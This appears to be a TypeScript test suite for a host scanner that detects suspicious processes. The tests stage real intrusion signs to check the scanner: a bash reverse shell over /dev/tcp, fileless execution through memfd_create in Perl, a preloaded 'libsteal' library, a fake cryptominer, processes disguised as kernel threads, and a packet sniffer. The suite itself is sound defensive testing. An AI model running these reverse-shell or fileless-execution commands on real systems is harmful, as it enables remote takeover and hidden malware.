/** Every process here is a real one that the test starts, and the probes are those of a scan. */
import assert from 'node:assert/strict';
import { spawn, type ChildProcess, type SpawnOptions } from 'node:child_process';
import { once } from 'node:events';
import { copyFileSync, mkdirSync, readdirSync, renameSync, rmSync, symlinkSync } from 'node:fs';
import { createServer, type AddressInfo, type Socket } from 'node:net';
import { dirname } from 'node:path';
import { test } from 'node:test';
import { failed, words } from '../../../../test/support/hosts/verdicts.ts';
import { scratchHost, type ScratchHost } from '../../../../test/support/hosts/scratch-host.ts';

const skip = process.getuid?.() === 0 ? false : 'only root sees what processes of others hold';

interface Stage extends AsyncDisposable {
  readonly host: ScratchHost;
  /** A copy of a program of the system at a path below the scratch root. */
  copy(program: string, path: string): string;
  /** Started and running; ended with the stage. */
  start(program: string, args: readonly string[], options?: SpawnOptions): Promise<ChildProcess & { pid: number }>;
  /** What of its findings speaks of one of the started processes. */
  found(id: string): Promise<readonly string[]>;
}

/** The processes of this machine are seen through a scratch root whose /proc is the real one. */
function stage(): Stage {
  const host = scratchHost();
  const started: ChildProcess[] = [];
  symlinkSync('/proc', `${host.root}/proc`);
  host.file('etc/passwd', 'root:x:0:0::/root:/bin/bash\nwww-data:x:33:33::/var/www:/usr/sbin/nologin\n');
  host.owns();
  return {
    host,
    copy(program, path) {
      const to = `${host.root}${path}`;
      mkdirSync(dirname(to), { recursive: true });
      copyFileSync(program, to);
      return to;
    },
    async start(program, args, options) {
      const child = spawn(program, args, { stdio: ['pipe', 'ignore', 'ignore'], env: {}, ...options });
      started.push(child);
      await once(child, 'spawn');
      return child as ChildProcess & { pid: number };
    },
    async found(id) {
      await host.look('processes', 'sockets');
      const pids = new Set(started.map(({ pid }) => String(pid)));
      const mine = host.recordsOf('processes', 14).filter(([pid = '']) => pids.has(pid));
      host.records('processes', [
        ...mine,
        ...host.recordsOf('processes', 14).filter(([pid]) => pid === String(process.pid)),
      ]);
      host.records(
        'sockets',
        host.recordsOf('sockets', 11).filter((each) => pids.has(each[8] ?? '')),
      );
      return failed(await host.detect(id))
        .filter((line) => !line.includes(`process:${process.execPath}:`))
        .map((line) => line.replaceAll(host.root, '').replaceAll(/(pid|port) \d+/g, '$1 N'));
    },
    async [Symbol.asyncDispose]() {
      for (const child of started) {
        if (child.exitCode !== null || child.signalCode !== null) continue;
        child.kill('SIGKILL');
        await once(child, 'exit');
      }
      host[Symbol.dispose]();
    },
  };
}

test('PRC-01: a program whose file is gone is found, one that an update replaced is not', { skip }, async () => {
  await using s = stage();
  const updated = s.copy('/bin/sleep', '/usr/bin/updated');
  s.host.owns('/usr/bin/updated');
  await s.start(updated, ['600']);
  rmSync(updated);
  const kept = s.copy('/bin/sleep', '/usr/bin/kept');
  await s.start(kept, ['600']);
  assert.deepEqual(await s.found('PRC-01'), []);
  const gone = s.copy('/bin/sleep', '/usr/sbin/gone');
  await s.start(gone, ['600']);
  rmSync(gone);
  const replaced = s.copy('/bin/sleep', '/opt/app/server');
  await s.start(replaced, ['600']);
  renameSync(s.copy('/bin/sleep', '/opt/app/new'), replaced);
  // memfd_create(2), then execve of what it gave.
  const number = process.arch === 'arm64' ? 279 : 319;
  await s.start('/usr/bin/perl', [
    '-e',
    `my $name = "quiet"; my $fd = syscall(${number}, $name, 0); open(my $in, "<", "/bin/sleep"); local $/; my $all = <$in>;
     open(my $out, ">&=", $fd); syswrite($out, $all); exec { "/proc/self/fd/$fd" } "quiet", "600"`,
  ]);
  const lines = await until(
    () => s.found('PRC-01'),
    (each) => each.some((line) => line.includes('memfd')),
  );
  assert.deepEqual(lines, [
    '- process:/memfd:quiet: it was loaded from memory and has no file (pid N, account 0)',
    '- process:/usr/sbin/gone: its file was deleted (pid N, account 0)',
    'low process:/opt/app/server: its file was replaced since it was started (pid N, account 0)',
  ]);
  await standsStillAndGoesOn(s, 'PRC-01', 'process:/usr/sbin/gone');
});

/** By the fix, and by its undo. What stands still is told as that, and counts little. `spared`: of the same program, and never stopped. */
async function standsStillAndGoesOn(s: Stage, id: string, resource: string, spared?: number): Promise<void> {
  const shown = resource.replaceAll(s.host.root, '');
  const about = async () => (await s.found(id)).filter((line) => line.includes(` ${shown}: `));
  const isStill = (lines: readonly string[]) =>
    lines.length > 0 &&
    lines.every((line) => line.startsWith('info ') && line.endsWith('; it stands still since it was stopped'));
  const before = await about();
  assert.ok(before.length > 0 && !isStill(before), before.join('\n'));
  const { undo } = await s.host.mend(id, resource);
  assert.ok(isStill(await until(about, isStill)));
  if (spared !== undefined) {
    const state = s.host.recordsOf('processes', 14).find(([pid]) => pid === String(spared))?.[7];
    assert.match(state ?? 'gone', /^[SR]$/);
  }
  await undo();
  const isBack = (lines: readonly string[]) => lines.join() === before.join();
  assert.deepEqual(await until(about, isBack), before);
}

/** Asks until it is so, twenty times at most: a program that a test started may still be starting another. */
async function until<T>(ask: () => Promise<T>, isSo: (answer: T) => boolean): Promise<T> {
  let answer = await ask();
  for (let times = 1; times < 20 && !isSo(answer); times += 1) answer = await ask();
  return answer;
}

test(
  'PRC-02: a program in a folder for passing files or a hidden one is found, tools of developers are not',
  { skip },
  async () => {
    await using s = stage();
    await s.start(s.copy('/bin/sleep', '/root/.local/bin/tool'), ['600']);
    await s.start('/bin/sleep', ['600'], { cwd: s.host.folder('tmp') });
    assert.deepEqual(await s.found('PRC-02'), []);
    await s.start(s.copy('/bin/sleep', '/tmp/.X/a\nb'), ['600']);
    await s.start(s.copy('/bin/sleep', '/usr/lib/.sys/agent'), ['600']);
    await s.start(s.copy('/bin/sleep', '/root/.hidden/x'), ['600']);
    assert.deepEqual(await s.found('PRC-02'), [
      'high process:/tmp/.X/a\nb: it runs from a folder that everybody can write to (pid N, account 0)',
      'high process:/usr/lib/.sys/agent: it runs from a hidden folder, or is hidden itself (pid N, account 0)',
      'medium process:/root/.hidden/x: it runs from a hidden folder, or is hidden itself (pid N, account 0)',
    ]);
    await standsStillAndGoesOn(s, 'PRC-02', 'process:/usr/lib/.sys/agent');
  },
);

test(
  'PRC-03: a foreign library put before those of a program is found, an allocator or a packaged one is not',
  { skip },
  async () => {
    await using s = stage();
    s.host.owns('/usr/lib/libpackaged.so');
    await s.start('/bin/sleep', ['600'], {
      env: { LD_PRELOAD: '/opt/libjemalloc.so.2:/usr/lib/libpackaged.so libplain.so' },
    });
    assert.deepEqual(await s.found('PRC-03'), []);
    await s.start('/bin/sleep', ['600'], { env: { LD_PRELOAD: '/opt/libjemalloc.so.2 /usr/lib/libsteal.so' } });
    await s.start('/bin/sleep', ['600'], { env: { LD_AUDIT: '/tmp/audit.so' } });
    const [audit = '', preload = ''] = await s.found('PRC-03');
    assert.match(
      audit,
      /^high process:.*sleep:\/tmp\/audit.so: it was started with LD_AUDIT=\/tmp\/audit.so \(pid N\)/,
    );
    assert.match(
      preload,
      /^medium process:.*sleep:\/usr\/lib\/libsteal.so: it was started with LD_PRELOAD=\/usr\/lib\/libsteal.so/,
    );
  },
);

test('PRC-04: a shell whose input is a connection is found while it runs, one on a pipe is not', { skip }, async () => {
  await using s = stage();
  await s.start('/bin/bash', []);
  assert.deepEqual(await s.found('PRC-04'), []);
  const server = createServer().listen(0, '127.0.0.1').unref();
  await once(server, 'listening');
  const called = once(server, 'connection');
  const { port } = server.address() as AddressInfo;
  await s.start('/bin/bash', ['-c', `exec bash -i >& /dev/tcp/127.0.0.1/${port} 0>&1`], {
    detached: true,
    env: { PATH: '/usr/bin:/bin' },
  });
  const [socket] = (await called) as [Socket];
  socket.unref().on('error', () => {});
  const [line = '', ...others] = await until(
    () => s.found('PRC-04'),
    (each) => each.length > 0,
  );
  assert.match(
    line,
    /^- process:.*bash:127\.0\.0\.1: descriptor [0-2] of it is a connection with 127\.0\.0\.1 port N \(pid N, account 0\)$/,
  );
  assert.deepEqual(others, []);
  await standsStillAndGoesOn(s, 'PRC-04', line.slice(2, line.indexOf(': ')));
});

test(
  'PRC-05: a miner is known by its name, its words, or a pool that it works for; whoever looks for one is not',
  { skip },
  async () => {
    await using s = stage();
    const harmless = await s.start('/usr/bin/perl', ['-e', 'sleep 600', 'notes about mining'], {});
    assert.deepEqual(await s.found('PRC-05'), []);
    await s.start(s.copy('/bin/sleep', '/opt/xmrig'), ['600']);
    await s.start('/usr/bin/perl', ['-e', 'sleep 600', '--', '-o', 'stratum+tcp://pool.example:3333']);
    const [name = '', perl = '', ...others] = await s.found('PRC-05');
    assert.match(name, /^- process:\/opt\/xmrig: it is called like a program that mines/);
    assert.match(perl, /^- process:.*perl: it was started with stratum\+tcp:\/\/ \(pid N, account 0\)$/);
    assert.deepEqual(others, []);
    await standsStillAndGoesOn(s, 'PRC-05', `process:${s.host.root}/opt/xmrig`);
    await standsStillAndGoesOn(s, 'PRC-05', perl.slice(2, perl.indexOf(': ')), harmless.pid);
  },
);

test('PRC-05: a pool alone is not enough, taking a processor for it is', async () => {
  using host = scratchHost();
  const now = Math.floor(Date.now() / 1000);
  const worker = (pid: number, cpuS: number) => [
    pid,
    1,
    0,
    0,
    // So long ago that what the check itself takes on a busy machine is no percent of it.
    now - 100_000,
    cpuS,
    0,
    'S',
    'w',
    `/opt/w${pid}`,
    0,
    '/',
    0,
    'w',
  ];
  host.records('processes', [worker(7, 10_000), worker(8, 90_000)]);
  host.records(
    'sockets',
    [7, 8].map((pid) => ['tcp', 'ESTABLISHED', '10.0.0.1', 40_000 + pid, '203.0.113.9', 3333, 0, pid, pid, 3, 'w']),
  );
  const [line = '', ...others] = failed(await host.detect('PRC-05'));
  assert.match(line, /^- process:\/opt\/w8: it is connected to port 3333 and took (89|90) % of a processor/);
  assert.deepEqual(others, []);
});

test('a fix stops the processes that were judged, and no other of the same program', async () => {
  using host = scratchHost();
  const now = Math.floor(Date.now() / 1000);
  const row = (pid: number, parent: number, exe: string, line: string, cpuS = 0) => [
    ...[pid, parent, 0, 0, now - 100_000, cpuS, 0, 'S', exe.split('/').at(-1) ?? '', exe, 0, '/', 0, line],
  ];
  const socket = (pid: number, port: number) => [
    ...['tcp', 'ESTABLISHED', '10.0.0.1', 40_000 + pid, '203.0.113.9', port, 0, pid, pid, 0, 'x'],
  ];
  host.owns('/usr/sbin/inetd');
  host.records('processes', [
    row(2, 1, '/usr/sbin/inetd', 'inetd'),
    row(3, 2, '/usr/bin/bash', 'bash'),
    row(4, 1, '/usr/bin/bash', 'bash -i'),
    row(5, 1, '/usr/bin/bash', 'bash -c exec xmrig -o stratum+tcp://pool.example:80'),
    row(11, 1, '/usr/bin/bash', 'bash -c grep -r stratum+tcp:// /etc; echo done'),
    row(12, 1, '/usr/bin/sudo', 'sudo /usr/bin/grep -r stratum+tcp:// /etc'),
    row(6, 1, '/opt/worker', 'worker', 90_000),
    row(7, 1, '/opt/worker', 'worker', 90_000),
    row(8, 1, '/opt/titled', '[my daemon]'),
    row(9, 1, '/opt/titled', '[kworker/0:1-events]'),
    row(10, 1, '/opt/titled', 'titled'),
  ]);
  host.records('sockets', [socket(3, 80), socket(4, 80), socket(6, 3333), socket(7, 80)]);
  const stopped = async (id: string, resource: string) => {
    const resources = (await host.detect(id)).verdicts.flatMap((each) => ('resource' in each ? each.resource : []));
    assert.ok(resources.includes(resource), `${id}: ${resources.join()}`);
    return (await host.fix(id, resource)).wanted.map(({ words: [pid] }) => Number(pid));
  };
  assert.deepEqual(await stopped('PRC-04', 'process:/usr/bin/bash:203.0.113.9'), [4]);
  assert.deepEqual(await stopped('PRC-05', 'process:/usr/bin/bash'), [5]);
  assert.deepEqual(await stopped('PRC-05', 'process:/opt/worker'), [6]);
  assert.equal(failed(await host.detect('PRC-05')).length, 2, 'and whoever looks for such words is none');
  assert.deepEqual(await stopped('PRC-07', 'process:/opt/titled'), [9]);
});

test('PRC-06: a process that the list leaves out or that a mount covers is found', { skip }, async () => {
  await using s = stage();
  const { pid } = await s.start('/bin/sleep', ['600']);
  await s.host.look('processes');
  assert.deepEqual(words(await s.host.detect('PRC-06')), ['pass']);
  // A list without that one, as a library that is loaded into every program shows it.
  rmSync(`${s.host.root}/proc`);
  s.host.folder('proc/self');
  for (const name of [
    'loadavg',
    'sys',
    ...readdirSync('/proc').filter((each) => /^\d+$/.test(each) && each !== String(pid)),
  ]) {
    symlinkSync(`/proc/${name}`, `${s.host.root}/proc/${name}`);
  }
  s.host.file(
    'proc/self/mountinfo',
    `30 20 0:5 / / rw - ext4 x rw\n31 20 0:9 / /proc/${process.pid} rw - tmpfs none rw\n`,
  );
  const hidden = `- process:hidden: the kernel knows process ${pid} (by its number), and the list of processes does not`;
  const lines = failed(await s.host.detect('PRC-06'));
  assert.ok(lines.includes(hidden), lines.join('\n'));
  // Numbers have begun anew since.
  rmSync(`${s.host.root}/proc/loadavg`);
  s.host.file('proc/loadavg', '0.00 0.00 0.00 1/100 10\n');
  const wrapped = failed(await s.host.detect('PRC-06'));
  assert.ok(wrapped.includes(hidden), wrapped.join('\n'));
  assert.ok(lines.some((line) => line.includes(`a mount covers /proc/${process.pid}, so that nobody sees what it is`)));
});

test(
  'PRC-07: a program that shows itself as a thread of the kernel is found, threads of the kernel are not',
  { skip },
  async () => {
    await using s = stage();
    await s.host.look('processes');
    const threads = s.host.recordsOf('processes', 14).filter((each) => each[6] === '1');
    assert.ok(threads.length > 0);
    s.host.records('processes', threads);
    assert.deepEqual(words(await s.host.detect('PRC-07')), ['pass']);
    await s.start(s.copy('/bin/cat', '/usr/lib/x/cat'), [], { argv0: '[kworker/0:1-events]' });
    await s.start(s.copy('/bin/cat', '/usr/lib/x/title'), [], { argv0: '[my daemon]' });
    await s.start(s.copy('/bin/cat', '/usr/lib/x/ksoftirqd'), []);
    const lines = await s.found('PRC-07');
    assert.equal(lines.length, 3);
    assert.match(
      lines[0] ?? '',
      /^high process:.*\/cat: it shows itself as \[kworker\/0:1-events\] and is no thread of the kernel/,
    );
    assert.match(lines[1] ?? '', /^high process:.*\/ksoftirqd: it shows itself as \[ksoftirqd\]/);
    assert.match(lines[2] ?? '', /^low process:.*\/title: it shows itself as \[my daemon\]/);
    await standsStillAndGoesOn(s, 'PRC-07', `process:${s.host.root}/usr/lib/x/cat`);
  },
);

test(
  'PRC-08: a shell of the web server’s account is found, scripts that a package brought and jobs of cron are not',
  { skip },
  async () => {
    await using s = stage();
    await s.start('/bin/bash', ['-c', 'read x; true'], { uid: 33, gid: 33 });
    const lines = await s.found('PRC-08');
    assert.match(lines.join('\n'), /^- account:www-data:\S*bash: www-data runs bash, started by \S*node\S* \(pid N\)$/);
    const row = (pid: number, parent: number, exe: string, line: string) => [
      pid,
      parent,
      33,
      33,
      1,
      0,
      0,
      'S',
      'x',
      exe,
      0,
      '/',
      0,
      line,
    ];
    s.host.owns('/usr/bin/mysqld_safe');
    s.host.records('processes', [
      row(2, 1, '/usr/sbin/cron', 'cron'),
      row(3, 2, '/usr/bin/dash', 'sh -c php cron.php'),
      row(4, 1, '/usr/bin/dash', 'sh /usr/bin/mysqld_safe --user=x'),
      row(5, 1, '/usr/bin/php', 'php index.php'),
    ]);
    assert.deepEqual(words(await s.host.detect('PRC-08')), ['pass']);
  },
);

test('PRC-09: a foreign program with a packet socket is found, a packaged one is not', { skip }, async () => {
  await using s = stage();
  const listens = ['-e', 'socket(my $s, 17, 3, 768) or die $!; print {*STDERR} "."; sleep 600'];
  const foreign = s.copy('/usr/bin/perl', '/usr/lib/x/sniff');
  const known = s.copy('/usr/bin/perl', '/usr/sbin/known');
  s.host.owns('/usr/sbin/known');
  for (const program of [known, foreign]) {
    const { stderr } = await s.start(program, listens, { stdio: ['ignore', 'ignore', 'pipe'] });
    await once(stderr ?? assert.fail(), 'data');
  }
  const lines = await s.found('PRC-09');
  assert.deepEqual(lines, ['- process:/usr/lib/x/sniff: it has a packet socket, and no package brought it (pid N)']);
});
